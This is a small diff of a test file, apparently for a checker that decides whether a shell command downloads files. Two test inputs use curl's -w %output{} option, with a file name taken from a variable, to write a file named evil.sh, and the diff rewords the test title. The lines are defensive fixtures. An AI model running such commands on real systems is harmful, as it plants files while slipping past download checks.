@@ -683,7 +683,7 @@ describe("a curl option filled in from a variable", () => {
   it.each([
     'F=evil.sh; curl -s -o /dev/null -w "%output{$F}%header{x-run}" https://x.test/a',
     'curl -s -w "%output{evil.sh}%header{x}$X" https://x.test/a',
-  ])("asks before %s, a -w %%output{} bash expands", (command) => {
+  ])("asks before %s, a -w output file bash expands", (command) => {
     expect(lineDownloads(command).unplaced).toBe(true);
   });
 
